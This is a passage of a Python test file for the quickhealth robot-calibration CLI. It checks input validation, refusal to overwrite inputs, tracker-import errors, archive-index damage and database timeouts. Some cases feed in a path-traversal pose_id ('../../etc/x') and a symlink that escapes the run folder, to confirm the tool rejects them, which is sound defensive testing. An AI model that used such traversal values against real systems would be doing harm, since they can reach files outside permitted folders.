    before = json.loads((run / "report.json").read_text())

    def check() -> None:
        doc = json.loads((run / "report.json").read_text())
        assert doc["schema"] == "quickhealth.report/1"  # not relabelled /2: it lacks /2's keys
        assert {k: doc[k] for k in before if k != "provenance"} == {
            k: v for k, v in before.items() if k != "provenance"
        }
        assert {"coverage", "diagnosis", "trend", "iso9283"} <= set(doc)
        assert (run / "report.html").read_text().startswith("<!DOCTYPE html>")

    c = _report_case(b, t, run)
    c.inputs = [run / "model.json", run / "measurements.csv"]
    c.absent = [t / "arch"]  # an archive that does not exist is not created
    return _with(c, r"wrote .*report\.html", code=0, check=check)


def _compare(b, t, *extra: str) -> Case:
    d = b["dir"]
    argv = ["compare", str(d / "model.json"), str(d / "meas.csv"), "--effects", "backlash:j2"]
    return Case([*argv, *extra], 2, "", [d / "model.json", d / "meas.csv"], [])


@case("compare-json-is-the-model")
def _(b, t):
    return _with(
        _compare(b, t, "--json", str(b["dir"] / "model.json")),
        r"model\.json: --json names an input file",
    )


@case("compare-json-is-the-heldout-via-symlink")
def _(b, t):
    held = t / "held.csv"
    held.write_bytes((b["dir"] / "meas.csv").read_bytes())
    (t / "cmp.json").symlink_to(held)
    c = _compare(b, t, "--heldout", str(held), "--json", str(t / "cmp.json"))
    c.inputs.append(held)
    return _with(c, r"cmp\.json: --json names an input file")


@case("compare-plots-png-is-the-measurements")
def _(b, t):
    d = b["dir"]
    meas = t / "compare.png"  # a measurement file whose name --plots would write
    meas.write_bytes((d / "meas.csv").read_bytes())
    argv = ["compare", str(d / "model.json"), str(meas), "--effects", "backlash:j2"]
    return Case(
        [*argv, "--plots", str(t)],
        2,
        r"compare\.png: --plots names an input file",
        [meas, d / "model.json"],
    )


@case("import-wam-out-is-the-input")
def _(b, t):
    wam = t / "grid.csv"
    wam.write_text("x_t,y_t,z_t\n1,2,3\n")
    return Case(
        ["identify", "import-wam", str(wam), "--out", str(wam), "--sign", "+1"],
        2,
        r"grid\.csv: --out names an input file",
        [wam],
    )


@case("import-wam-out-is-the-robot-file")
def _(b, t):
    wam = t / "grid.csv"
    wam.write_text("x_t,y_t,z_t\n1,2,3\n")
    robot = t / "wam.toml"
    robot.write_text((ROOT / "fixtures" / "robots" / "wam.toml").read_text())
    return Case(
        ["identify", "import-wam", str(wam), "--out", str(robot), "--robot", str(robot)],
        2,
        r"wam\.toml: --out names an input file",
        [wam, robot],
    )


def _archived(b, t) -> Path:
    from quickhealth.station.archive import Archive

    Archive.open(t / "arch").add_run("cell3", b["dir"] / "run1", time_utc="2026-01-01T08:00:00Z")
    return t / "arch"


@case("trend-json-is-the-archive-index")
def _(b, t):
    arch = _archived(b, t)
    return Case(
        ["trend", "cell3", "--archive", str(arch), "--json", str(arch / "index.sqlite")],
        2,
        r"index\.sqlite: --json lies inside the archive",
        [arch / "index.sqlite", arch / "robots" / "cell3" / "run1" / "report.json"],
    )


@case("trend-plot-is-an-archived-model")
def _(b, t):
    arch = _archived(b, t)
    model = arch / "robots" / "cell3" / "run1" / "model.json"
    return Case(
        ["trend", "cell3", "--archive", str(arch), "--plot", str(model)],
        2,
        r"model\.json: --plot lies inside the archive",
        [model, arch / "index.sqlite"],
    )


@case("trend-json-and-plot-are-one-file")
def _(b, t):
    arch = _archived(b, t)
    return Case(
        ["trend", "cell3", "--archive", str(arch), "--json", str(t / "x"), "--plot", str(t / "x")],
        2,
        r"x: --plot and --json name the same file",
        [arch / "index.sqlite"],
        [t / "x"],
    )


@case("trend-plot-on-unwritable-file-system")
def _(b, t):
    arch = _archived(b, t)
    out = Path("/sys/qh-corpus-trend.png")  # a figure: one line, exit 2, as for any file
    return Case(
        ["trend", "cell3", "--archive", str(arch), "--plot", str(out)],
        2,
        r"/sys/qh-corpus-trend\.png: cannot write: (Permission denied|Read-only file system)",
        [arch / "index.sqlite"],
        [out],
    )


@case("diagnose-plots-png-is-the-measurements")
def _(b, t):
    d = b["dir"]
    meas = t / "spectrum.png"
    meas.write_bytes((d / "meas.csv").read_bytes())
    return Case(
        [
            "diagnose",
            str(d / "model.json"),
            str(meas),
            "--json",
            str(t / "d.json"),
            "--plots",
            str(t),
        ],  # fmt: skip
        2,
        r"spectrum\.png: --plots names an input file",
        [meas],
        [t / "d.json"],
    )


@case("vision-calibrate-figure-would-overwrite-an-image")
def _(b, t):
    img = _png_header(t, 64, 48, "cal_residuals.png")
    return Case(
        [
            "vision",
            "calibrate",
            "--board",
            "chessboard:9x6:25",
            "--left",
            str(img),
            "--out",
            str(t / "cal.json"),
        ],  # fmt: skip
        2,
        r"cal_residuals\.png: --out names an input file",
        [img],
        [t / "cal.json"],
    )


@case("vision-measure-out-is-the-index")
def _(b, t):
    c = _index_run(b, t, "P1,0,-90,0,0,0,0\n")
    index = t / "vrun" / "images" / "index.csv"
    c.argv += ["--out", str(index)]
    return _with(c, r"index\.csv: --out names an input file")


@case("run-out-would-overwrite-the-plan")
def _(b, t):
    plan = t / "r" / "run.json"  # a plan saved under the name the run writes its summary to
    plan.parent.mkdir()
    plan.write_text("{}")
    return Case(
        ["run", "--cell", "reference", "--plan", str(plan), "--out", str(t / "r"), "--sim"],
        2,
        r"run\.json: --out names an input file",
        [plan],
        [t / "r" / "journal.jsonl", t / "r" / "measurements.csv"],
    )


# ---- 5. output folders: another kind or another run is refused without --force


@case("plan-out-holds-a-run")
def _(b, t):
    run = _run_copy(b, t, lambda r: None)
    return Case(
        ["plan", "--cell", "reference", "--n", "20", "--out", str(run)],
        2,
        r"run: --out holds a run \(measurements\.csv\); a fit \(model\.json, report\.json\): "
        r"choose another folder, or give --force",
        [run],
        [run / "plan.json", run / "loop.script"],
    )


@case("plan-out-holds-another-plan")
def _(b, t):
    (t / "p").mkdir()
    old = t / "p" / "plan.json"
    old.write_text(json.dumps({"hash": "sha256:" + "0" * 64}))
    return Case(
        ["plan", "--cell", "reference", "--n", "20", "--out", str(t / "p")],
        2,
        r"p: --out holds another plan \(plan\.json sha256:0000000000",
        [t / "p"],
        [t / "p" / "loop.script"],
    )


@case("plan-out-on-unwritable-file-system")
def _(b, t):
    out = Path("/sys/qh-corpus-plan")
    return Case(
        ["plan", "--cell", "reference", "--n", "20", "--out", str(out)],
        2,
        r"/sys/qh-corpus-plan: cannot write: (Operation not permitted|Permission denied|Read-only)",
        [],
        [out],
    )


@case("fit-out-holds-a-plan")
def _(b, t):
    (t / "p").mkdir()
    (t / "p" / "plan.json").write_text("{}")
    (t / "p" / "loop.script").write_text("movej([0,0,0,0,0,0])\n")
    c = _fit(b["dir"] / "meas.csv", t)
    c[c.index("--out") + 1] = str(t / "p")
    return Case(c, 2, r"p: --out holds a plan \(loop\.script, plan\.json\)", [t / "p"])


@case("fit-out-holds-another-run")
def _(b, t):
    run = _run_copy(b, t, lambda r: None)  # its measurements.csv is not the fit's input
    c = _fit(b["dir"] / "meas.csv", t)
    c[c.index("--out") + 1] = str(run)
    return Case(
        c,
        2,
        r"run: --out holds a run \(measurements\.csv\); a fit of unknown data",
        [run, run / "model.json", run / "report.json"],
    )


@case("fit-out-holds-the-fit-of-other-data")
def _(b, t):
    (t / "res").mkdir()
    (t / "res" / "model.json").write_bytes((b["dir"] / "model.json").read_bytes())
    (t / "res" / "report.json").write_text(
        json.dumps({"schema": "quickhealth.report/2", "input": "elsewhere/other.csv"})
    )
    c = _fit(b["dir"] / "meas.csv", t)
    c[c.index("--out") + 1] = str(t / "res")
    return Case(
        c,
        2,
        r"res: --out holds the fit of another measurement file, elsewhere/other\.csv",
        [t / "res", t / "res" / "model.json", t / "res" / "report.json"],
    )


@case("fit-out-on-unwritable-file-system")
def _(b, t):
    c = _fit(b["dir"] / "meas.csv", t, "--max-order", "0")
    c[c.index("--out") + 1] = "/sys/qh-corpus-fit"
    return Case(
        c,
        2,
        r"/sys/qh-corpus-fit: cannot write: (Operation not permitted|Permission denied|Read-only)",
        [b["dir"] / "meas.csv"],
        [Path("/sys/qh-corpus-fit")],
    )


# ---- 5. CSV outputs quote what needs quoting


@case("predict-pose-id-with-comma-and-quote")
def _(b, t):
    rows = _good_rows(b)[:3]
    ids = ['"a,b"', '"say ""hi"""', "plain"]
    text = "pose_id,q1,q2,q3,q4,q5,q6,x,y,z\n" + "".join(
        f"{i},{','.join(repr(v) for v in r)}\n" for i, r in zip(ids, rows, strict=True)
    )
    csv_in = _csv(b, t, text=text)
    c = _predict(b, t, b["dir"] / "model.json", csv_in)

    def check() -> None:
        import csv

        got = list(csv.reader((t / "o.csv").read_text().splitlines()))
        head = got[0]
        assert all(len(r) == len(head) for r in got), got
        assert [r[head.index("pose_id")] for r in got[1:]] == ["a,b", 'say "hi"', "plain"]
        assert [float(r[head.index("q1")]) for r in got[1:]] == pytest.approx(
            [r[0] for r in rows], abs=1e-6
        )

    return _with(c, r"3 commands", code=0, absent=[], check=check)


# ---- 4. --debug is an option of every command, wherever it stands


@case("debug-after-the-command-name")
def _(b, t):
    arch = _archived(b, t)
    return Case(  # accepted, not a usage error: the command runs
        ["archive", "list", "--debug", "--archive", str(arch)],
        0,
        r"cell3: 1 runs, baseline run1",
        [arch / "index.sqlite"],
    )


# ---- 8. small but misleading: vision measure index files


def _index_run(b, t, rows: str) -> Case:
    run = t / "vrun"
    (run / "images").mkdir(parents=True)
    (run / "images" / "index.csv").write_text("pose_id,q1,q2,q3,q4,q5,q6\n" + rows)
    return Case(
        ["vision", "measure", str(run)],
        2,
        "",
        [run / "images" / "index.csv"],
        [run / "measurements.csv"],
    )


@case("vision-index-nan-joint")
def _(b, t):
    return _with(
        _index_run(b, t, "P1,0,nan,0,0,0,0\n"),
        r"index\.csv:2:3: q2 is 'nan', not a finite joint angle",
    )


@case("vision-index-newline-in-pose-id")
def _(b, t):
    return _with(
        _index_run(b, t, '"P\n1",0,-90,0,0,0,0\n'),
        r"index\.csv:2:1: pose_id 'P\\n1' must be 1-128 characters without control characters",
    )


@case("vision-index-path-in-pose-id")
def _(b, t):
    return _with(
        _index_run(b, t, "../../etc/x,0,-90,0,0,0,0\n"), r"pose_id '\.\./\.\./etc/x' must be"
    )


# ---- 9. tracker imports and CSV v1's orientation columns (issue 21)

_EXPORT = (
    "id;J1;J2;J3;J4;J5;J6;X;Y;Z;RX;RY;RZ;sRX;sRY;sRZ\n"
    "p1;10,5;-80;90;-100;90;0;383,76;-3240,87;201,93;-90,18;-20,12;-90,17;0,001;0,001;0,004\n"
    "p2;-20;-60;70;-90;80;45;-0,51;-3343,15;-426,95;-90,14;-30,09;-90,36;0,001;0,001;0,002\n"
    "p3;35;-100;110;-120;100;-30;1,85;-3343,69;-425,74;-90,21;-30,01;-90,26;0,002;0,002;0,003\n"
)


def _import(t: Path, text: str | bytes = _EXPORT, *extra: str) -> Case:
    """``import tracker`` on a small 6-DoF export (decimal comma, ';'), plus ``extra`` options."""
    src = t / "export.txt"
    if isinstance(text, bytes):
        src.write_bytes(text)
    else:
        src.write_text(text)
    out = t / "meas.csv"
    argv = ["import", "tracker", str(src), "--out", str(out), "--joints", "J1,J2,J3,J4,J5,J6",
            "--position", "X,Y,Z", "--orientation", "RX,RY,RZ", "--euler", "XYZ",
            "--sigma-orientation", "sRX,sRY,sRZ", "--decimal", "comma", *extra]  # fmt: skip
    return Case(argv, 2, "", [src], [out])


@case("import-good-export-is-written")
def _(b, t):
    c = _import(t)
    out = t / "meas.csv"

    def check() -> None:
        m = formats.read_measurements(out, 6)
        assert m.n_poses == 3 and m.rot is not None and m.sigma_rot is not None
        assert "qw" in out.read_text() and "pitch" not in out.read_text()

    return _with(c, r"wrote .*meas\.csv: 3 poses, 6 joints, position and orientation",
                 code=0, absent=[], check=check)  # fmt: skip


@case("import-bad-cell")
def _(b, t):
    return _with(
        _import(t, _EXPORT.replace("-3343,15", "-33A3,15")),
        r"export\.txt:3:9: column 'Y' \(y\): '-33A3,15' is not a number",
    )


@case("import-nan-cell")
def _(b, t):
    return _with(
        _import(t, _EXPORT.replace("-90,14", "NaN")),
        r"export\.txt:3:11: column 'RX' \(angle 1\): 'NaN' is not a finite number",
    )


@case("import-unknown-length-unit")
def _(b, t):
    return _with(_import(t, _EXPORT, "--length-unit", "furlong"),
                 r"--length-unit 'furlong': unknown unit; use mm, m, in")  # fmt: skip


@case("import-unknown-angle-unit")
def _(b, t):
    return _with(_import(t, _EXPORT, "--angle-unit", "gon"),
                 r"--angle-unit 'gon': unknown unit; use deg, rad")  # fmt: skip


@case("import-unsupported-unit-in-the-header")
def _(b, t):
    return _with(
        _import(t, _EXPORT.replace(";X;", ";X [cm];")),
        r"export\.txt:1:8: column 'X \[cm\]' \(x\): unit 'cm' is not supported",
    )


@case("import-header-unit-contradicts-the-option")
def _(b, t):
    return _with(
        _import(t, _EXPORT.replace(";RY;", ";RY [rad];"), "--angle-unit", "deg"),
        r"export\.txt:1:12: column 'RY \[rad\]' \(angle 2\): the header says rad, but the "
        r"angle unit is deg \(--angle-unit\)",
    )


@case("import-unknown-euler-convention")
def _(b, t):
    return _with(_import(t, _EXPORT, "--euler", "RPY"),
                 r"--euler 'RPY': not an Euler convention as scipy names it")  # fmt: skip


@case("import-euler-convention-mixed-case")
def _(b, t):
    return _with(_import(t, _EXPORT, "--euler", "XyZ"), r"--euler 'XyZ': not an Euler convention")


@case("import-missing-mapped-column")
def _(b, t):
    return _with(
        _import(t, _EXPORT, "--orientation", "RX,RY,RW"),
        r"export\.txt:1:17: missing column 'RW' \(--orientation, angle 3\)",
    )


@case("import-decimal-comma-read-as-point")
def _(b, t):
    return _with(
        _import(t, _EXPORT, "--decimal", "point", "--sep", ";"),
        r"export\.txt:2:2: column 'J1' \(q1\): '10,5' is not a number: a decimal comma\? "
        r"give --decimal comma",
    )


@case("import-decimal-point-in-a-comma-file")
def _(b, t):
    return _with(
        _import(t, _EXPORT.replace("383,76", "383.76")),
        r"export\.txt:2:8: column 'X' \(x\): '383\.76' has a decimal point",
    )


@case("import-decimal-comma-in-a-comma-separated-file")
def _(b, t):
    return _with(_import(t, _EXPORT, "--sep", ","),
                 r"--decimal comma with --sep ',': a decimal comma in a comma-separated file "
                 r"is ambiguous")  # fmt: skip


@case("import-empty-file")
def _(b, t):
    return _with(_import(t, ""), r"export\.txt:1:1: empty file: expected a header row")


@case("import-header-only")
def _(b, t):
    return _with(_import(t, _EXPORT.splitlines()[0] + "\n"),
                 r"export\.txt:2:1: no data rows after the header")  # fmt: skip


@case("import-binary-file")
def _(b, t):
    return _with(_import(t, b"\x89PNG\r\n\x1a\n\x00\xff\xfe"), r"export\.txt: not UTF-8 text")


@case("import-ragged-row")
def _(b, t):
    return _with(
        _import(t, _EXPORT + "p4;1;2;3\n"), r"export\.txt:5:5: row has 4 cells, the header has 16"
    )


@case("import-joints-in-radians-read-as-degrees")
def _(b, t):
    rows = ["id;J1;J2;J3;J4;J5;J6;X;Y;Z;RX;RY;RZ;sRX;sRY;sRZ"]
    for k in range(3):
        rows.append(f"p{k};0,{k};-1,5;1,2;-1;1,5;0,{4 * k};1;2;3;10;20;30;0,1;0,1;0,1")
    return _with(_import(t, "\n".join(rows) + "\n"),
                 r"export\.txt:2:3: joint angles look like radians .* give --joint-unit rad")  # fmt: skip


@case("import-positions-in-mm-read-as-metres")
def _(b, t):
    return _with(_import(t, _EXPORT, "--length-unit", "m"),
                 r"export\.txt:4:8: the target is 3371 m from the instrument, beyond any "
                 r"laser tracker's range")  # fmt: skip


@case("import-zero-angle-uncertainty")
def _(b, t):
    return _with(
        _import(t, _EXPORT.replace("0,002;0,002;0,003", "0,002;0;0,003")),
        r"export\.txt:4:15: column 'sRY' \(s\(angle 2\)\): uncertainty 0 must be > 0",
    )


@case("import-unknown-preset")
def _(b, t):
    return _with(_import(t, _EXPORT, "--preset", "kuka"),
                 r"--preset 'kuka': unknown; known: ipa-ur10, wam")  # fmt: skip


@case("import-ur10-preset-on-the-wam-file")
def _(b, t):
    out = t / "meas.csv"
    wam = ROOT / "fixtures" / "wam" / "grid.csv"
    return Case(
        ["import", "tracker", str(wam), "--preset", "ipa-ur10", "--out", str(out)],
        2,
        r"grid\.csv:1:1: no ';' or tab in the header|grid\.csv:1:2: missing column "
        r"'shoulder_pan_joint'",
        [wam],
        [out],
    )


@case("import-out-is-the-input")
def _(b, t):
    c = _import(t)
    c.argv[c.argv.index("--out") + 1] = c.argv[2]
    return _with(c, r"export\.txt: --out names an input file")


def _v1(b, t: Path, head: str, cell: Callable[[int], str]) -> Case:
    """``identify fit`` on the good rows plus the columns ``head`` with cells ``cell(i)``."""
    rows = _good_rows(b)
    body = "\n".join(",".join(f"{v!r}" for v in r) + "," + cell(i) for i, r in enumerate(rows))
    csv = _csv(b, t, text=f"q1,q2,q3,q4,q5,q6,x,y,z,{head}\n{body}\n")
    return Case(_fit(csv, t), 2, "", [csv], [t / "out"])


def _quat(b, i: int) -> list[float]:
    from quickhealth.identify.transforms import R_to_quat

    return [float(v) for v in R_to_quat(b["meas"].R[i])]


def _cells(v: list[float]) -> str:
    return ",".join(repr(x) for x in v)


@case("csv-quaternion-norm-not-1")
def _(b, t):
    return _with(
        _v1(b, t, "qw,qx,qy,qz",
            lambda i: _cells([2 * x for x in _quat(b, i)] if i == 4 else _quat(b, i))),
        r"bad\.csv:6:10: quaternion \(qw, qx, qy, qz\) has norm 2, not 1: not a rotation",
    )  # fmt: skip


@case("csv-zero-quaternion")
def _(b, t):
    return _with(
        _v1(b, t, "qw,qx,qy,qz", lambda i: "0,0,0,0" if i == 0 else _cells(_quat(b, i))),
        r"bad\.csv:2:10: quaternion \(qw, qx, qy, qz\) has norm 0, not 1",
    )


@case("csv-quaternion-without-qz")
def _(b, t):
    return _with(
        _v1(b, t, "qw,qx,qy", lambda i: _cells(_quat(b, i)[:3])),
        r"bad\.csv:1:10: column 'qw' needs 'qz' too",
    )


@case("csv-srot-zero")
def _(b, t):
    return _with(
        _v1(b, t, "qw,qx,qy,qz,srot",
            lambda i: _cells(_quat(b, i)) + ("," + ("0" if i == 2 else "0.01"))),
        r"bad\.csv:4:14: column 'srot': uncertainty 0 must be > 0",
    )  # fmt: skip


@case("csv-srot-negative")
def _(b, t):
    return _with(
        _v1(b, t, "qw,qx,qy,qz,srot",
            lambda i: _cells(_quat(b, i)) + ("," + ("-0.01" if i == 7 else "0.01"))),
        r"bad\.csv:9:14: column 'srot': uncertainty -0\.01 must be > 0",
    )  # fmt: skip


@case("csv-srot-without-orientation")
def _(b, t):
    return _with(
        _v1(b, t, "srot", lambda i: "0.01"),
        r"bad\.csv:1:10: orientation uncertainty 'srot' without an orientation",
    )


@case("csv-pitch-yaw-roll-and-quaternion")
def _(b, t):
    return _with(
        _v1(b, t, "pitch,yaw,roll,qw,qx,qy,qz", lambda i: "10,20,30," + _cells(_quat(b, i))),
        r"bad\.csv:1:13: orientation given twice \('pitch' and 'qw' columns\): keep one",
    )


@case("csv-spitch-and-srot")
def _(b, t):
    return _with(
        _v1(b, t, "pitch,yaw,roll,spitch,syaw,sroll,srot",
            lambda i: "10,20,30,0.01,0.01,0.01,0.01"),
        r"bad\.csv:1:16: orientation uncertainty given twice \('spitch' and 'srot'",
    )  # fmt: skip


# ---- issue 27: the archive, faults and degenerate data, round two


def _run2(b, t: Path, where: str) -> Path:
    """A copy of the fitted run folder named run2 under ``t/where``."""
    import shutil

    d = t / where / "run2"
    shutil.copytree(b["dir"] / "run1", d)
    return d


def _add(run: Path, arch: Path, *extra: str) -> list[str]:
    return ["archive", "add", str(run), "--robot", "r", "--archive", str(arch), *extra]


@case("archive-add-over-another-indexs-run")
def _(b, t):
    from quickhealth.station.archive import Archive

    arch = t / "A"
    Archive.open(arch).add_run("r", _run2(b, t, "a"), time_utc="2026-01-01T08:00:00Z")
    other = _run2(b, t, "other")  # the other station's run2: another measurement
    (other / "notes.txt").write_text("the other station's run\n")
    theirs = arch / "robots" / "r" / "run2"
    return Case(
        _add(other, arch, "--db", f"sqlite:///{t / 'other.sqlite'}"),
        2,
        r"robots/r/run2: holds a run put there by another index .* refusing to replace it",
        [theirs, theirs / "report.json", theirs / "model.json", arch / "index.sqlite"],
        [t / "other.sqlite", theirs / "notes.txt"],
    )


@case("archive-add-symlink-out-of-the-run")
def _(b, t):
    (t / "outside").mkdir()
    (t / "outside" / "secret").write_text("not for the archive\n")
    run = _run_copy(b, t, lambda r: (r / "notes").symlink_to("../outside/secret"))
    return Case(
        _add(run, t / "arch"),
        2,
        r"run/notes: a symbolic link \(-> \.\./outside/secret\): a run folder is copied as "
        r"regular files and folders only",
        [run, t / "outside" / "secret"],
        [t / "arch"],
    )


@case("archive-add-symlink-loop")
def _(b, t):
    run = _run_copy(b, t, lambda r: (r / "images").mkdir())
    (run / "images" / "loop").symlink_to("..")
    return Case(
        _add(run, t / "arch"), 2, r"images/loop: a symbolic link \(-> \.\.\)", [run], [t / "arch"]
    )


@case("archive-add-fifo-in-the-run")
def _(b, t):
    run = _run_copy(b, t, lambda r: os.mkfifo(r / "pipe"))
    return Case(_add(run, t / "arch"), 2, r"run/pipe: not a regular file", [run], [t / "arch"])


@case("archive-add-disk-full")
def _(b, t):
    import errno

    from quickhealth.station import fsio

    run = _run_copy(b, t, lambda r: None)

    def full(mp: pytest.MonkeyPatch) -> None:
        written = [0]

        def write(fd: int, data) -> int:
            written[0] += len(data)
            if written[0] > 20_000:
                raise OSError(errno.ENOSPC, "No space left on device")
            return os.write(fd, data)

        mp.setattr(fsio, "_write_out", write)

    return Case(
        _add(run, t / "arch"),
        3,
        r"arch/robots/r/\.incoming-run-\w+/run/\w+\.\w+: writing failed: No space left on device",
        [run],
        [t / "arch"],  # the staging folder and the new archive are removed again
        patch=full,
    )


@case("archive-add-bad-time-creates-nothing")
def _(b, t):
    run = _run_copy(b, t, lambda r: None)
    return Case(
        _add(run, t / "arch", "--time", "yesterday"), 2, r"time 'yesterday' is not an ISO 8601",
        [run], [t / "arch"],
    )  # fmt: skip


@case("archive-add-year-99999-creates-nothing")
def _(b, t):
    run = _run_copy(b, t, lambda r: None)
    return Case(
        _add(run, t / "arch", "--time", "99999-01-01T00:00:00Z"), 2,
        r"time '99999-01-01T00:00:00Z' is not an ISO 8601 time of years 1\.\.9999",
        [run], [t / "arch"],
    )  # fmt: skip


@case("archive-add-300-character-run-id-creates-nothing")
def _(b, t):
    run = _run_copy(b, t, lambda r: None)
    return Case(
        _add(run, t / "arch", "--run-id", "x" * 300), 2, r"run id 'x+'… is not allowed",
        [run], [t / "arch"],
    )  # fmt: skip


@case("archive-add-300-character-robot-creates-nothing")
def _(b, t):
    run = _run_copy(b, t, lambda r: None)
    argv = _add(run, t / "arch")
    argv[argv.index("--robot") + 1] = "r" * 300
    return Case(argv, 2, r"robot 'r+'… is not allowed", [run], [t / "arch"])


@case("archive-names-a-file")
def _(b, t):
    f = t / "index.sqlite"
    f.write_bytes(b"not a folder")
    return Case(
        ["archive", "list", "--archive", str(f)], 2,
        r"index\.sqlite: names a file; the archive is a folder", [f],
    )  # fmt: skip


def _report_v1(r: Path) -> None:
    """Label the run's report.json version 1 (it holds the archive's figures, not every key of
    version 2), so that ``quickhealth report`` reads it."""
    doc = json.loads((r / "report.json").read_text())
    doc["schema"] = "quickhealth.report/1"
    (r / "report.json").write_text(json.dumps(doc))


def _damaged(b, t, kind: str, argv_of: Callable[[Path], list[str]], code: int = 2) -> Case:
    import shutil

    arch = _archived(b, t)
    ix = arch / "index.sqlite"
    good = ix.read_bytes()
    ix.unlink()
    if kind == "truncated":
        ix.write_bytes(good[:3000])
    elif kind == "garbage":
        ix.write_bytes(bytes(range(256)) * 20)
    elif kind == "wrong-schema":
        import sqlite3

        con = sqlite3.connect(ix)
        con.execute("create table runs (a integer)")
        con.execute("create table robots (b integer)")
        con.commit()
        con.close()
    else:
        ix.mkdir()
    pattern = {
        "truncated": r"index\.sqlite: the archive index is damaged or not a quickhealth index "
        r"\(database disk image is malformed\); restore it from a backup",
        "garbage": r"index\.sqlite: the archive index is damaged or not a quickhealth index "
        r"\(file is not a database\)",
        "wrong-schema": r"index\.sqlite: not a quickhealth archive index \(its table 'runs' "
        r"lacks robot, run_id",
        "directory": r"index\.sqlite: not a usable archive index: it is a folder",
    }[kind]
    keep = [arch / "robots" / "cell3" / "run1"]
    if kind != "directory":
        keep.append(ix)
    shutil.copytree(b["dir"] / "run1", t / "new")
    _report_v1(t / "new")
    return Case(argv_of(arch), code, pattern, keep, [arch / "robots" / "cell3" / "new"])


for _kind in ("truncated", "garbage", "wrong-schema", "directory"):
    CASES[f"index-{_kind}-archive-list"] = lambda b, t, k=_kind: _damaged(
        b, t, k, lambda a: ["archive", "list", "--archive", str(a)]
    )
CASES["index-garbage-trend"] = lambda b, t: _damaged(
    b, t, "garbage", lambda a: ["trend", "cell3", "--archive", str(a)]
)
CASES["index-truncated-archive-add"] = lambda b, t: _damaged(
    b, t, "truncated",
    lambda a: ["archive", "add", str(t / "new"), "--robot", "cell3", "--archive", str(a)],
)  # fmt: skip
CASES["index-wrong-schema-report"] = lambda b, t: _damaged(
    b, t, "wrong-schema",
    lambda a: ["report", str(t / "new"), "--robot", "cell3", "--archive", str(a),
               "--no-diagnose", "--out", str(t / "r.html")],
)  # fmt: skip


def _db(b, t, url: str, code: int, pattern: str) -> Case:
    run = _run_copy(b, t, lambda r: None)
    return Case(_add(run, t / "arch", "--db", url), code, pattern, [run], [t / "arch"])


@case("db-url-malformed")
def _(b, t):
    return _db(b, t, "::not a url::", 2, r"--db '::not a url::': not a database URL")


@case("db-url-unknown-dialect")
def _(b, t):
    return _db(b, t, "mysql://u@localhost/qh", 2, r"--db mysql://u@localhost/qh: cannot use a "
               r"'mysql' database here")  # fmt: skip


@case("db-url-sqlite-in-a-missing-folder")
def _(b, t):
    return _db(b, t, f"sqlite:///{t}/no/such/dir/x.sqlite", 2,
               r"x\.sqlite: not a usable archive index: its folder .*/no/such/dir does not exist")  # fmt: skip


def _free_port() -> int:
    import socket

    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


@case("db-server-closed-port")
def _(b, t):
    url = f"postgresql+psycopg://qh@127.0.0.1:{_free_port()}/qh"
    return _db(b, t, url, 3, r"cannot use the index server postgresql\+psycopg://qh@127\.0\.0\.1:"
               r"\d+/qh \(reading\): connection failed: .*Connection refused")  # fmt: skip


@case("db-server-never-answers")
def _(b, t):
    import socket
    import threading

    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    held: list[socket.socket] = []

    def accept() -> None:  # accepts every connection and never says a word
        while True:
            try:
                held.append(srv.accept()[0])
            except OSError:
                return

    threading.Thread(target=accept, daemon=True).start()
    url = f"postgresql+psycopg://qh@127.0.0.1:{srv.getsockname()[1]}/qh"
    c = _db(b, t, url, 3, r"the index server postgresql\+psycopg://qh@127\.0\.0\.1:\d+/qh did not "
            r"answer within 2 s \(reading\)")  # fmt: skip
    c.argv += ["--db-timeout", "1"]

    def check() -> None:
        srv.close()
        for s in held:
            s.close()

    c.check = check
    return c


@case("db-timeout-zero")
def _(b, t):
    return Case(
        ["archive", "list", "--archive", str(t / "arch"), "--db-timeout", "0"], 2,
        r"--db-timeout: 0 is not a time in s", [], [t / "arch"],
    )  # fmt: skip


@case("trend-latest-run-folder-deleted")
def _(b, t):
    import shutil

    from quickhealth.station.archive import Archive

    arch = _archived(b, t)
    Archive.open(arch).add_run("cell3", b["dir"] / "run1", run_id="run3",
                               time_utc="2026-02-01T08:00:00Z")  # fmt: skip
    shutil.rmtree(arch / "robots" / "cell3" / "run3")
    return Case(
        ["trend", "cell3", "--archive", str(arch), "--json", str(t / "t.json")], 2,
        r"latest run run3 of robot cell3: its folder .*/run3 is missing \(deleted behind the "
        r"index\?\): it cannot be judged", [arch / "index.sqlite"], [t / "t.json"],
    )  # fmt: skip


@case("trend-marks-a-deleted-older-run")
def _(b, t):
    import shutil

    from quickhealth.station.archive import Archive

    arch = _archived(b, t)
    a = Archive.open(arch)
    for k, rid in enumerate(("run2", "run3")):
        a.add_run("cell3", b["dir"] / "run1", run_id=rid, time_utc=f"2026-0{k + 2}-01T08:00:00Z")
    shutil.rmtree(arch / "robots" / "cell3" / "run2")

    def check() -> None:
        doc = json.loads((t / "t.json").read_text())
        assert doc["run_ids"] == ["run1", "run3"], doc["run_ids"]

    return Case(
        ["trend", "cell3", "--archive", str(arch), "--json", str(t / "t.json")], 0,
        r"latest run run3 (.|\n)*\nHEALTHY: (.|\n)*warning: run run2: its folder .*/run2 is "
        r"missing \(deleted behind the index\?\): left out of the trend\n",
        [arch / "index.sqlite"],
        check=check,
    )  # fmt: skip


@case("report-marks-a-deleted-archive-folder")
def _(b, t):
    import shutil

    arch = _archived(b, t)
    run = _run_copy(b, t, _report_v1)
    shutil.rmtree(arch / "robots" / "cell3" / "run1")

    def check() -> None:
        html = (t / "r.html").read_text()
        assert "its folder" in html and "is missing" in html, "trend section not marked"

    return Case(
        ["report", str(run), "--robot", "cell3", "--run-id", "run1", "--archive", str(arch),
         "--no-diagnose", "--out", str(t / "r.html")], 0, r"wrote .*r\.html",
        [arch / "index.sqlite"], check=check,
    )  # fmt: skip


@case("reprocess-scheduler-not-an-address")
def _(b, t):
    arch = _archived(b, t)
    return Case(
        ["reprocess", "--archive", str(arch), "--scheduler", "::not a url::"], 2,
        r"--scheduler '::not a url::': not a Dask scheduler address",
        [arch / "index.sqlite"], [arch / "robots" / "cell3" / "run1" / "reprocessed"],
    )  # fmt: skip


@case("reprocess-workers-0")
def _(b, t):
    return Case(
        ["reprocess", "--archive", str(t / "arch"), "--workers", "0"], 2,
        r"--workers: 0 is not a number of worker processes \(an integer in 1\.\.256\)", [],
        [t / "arch"],
    )  # fmt: skip


@case("plan-seed-negative")
def _(b, t):
    return Case(
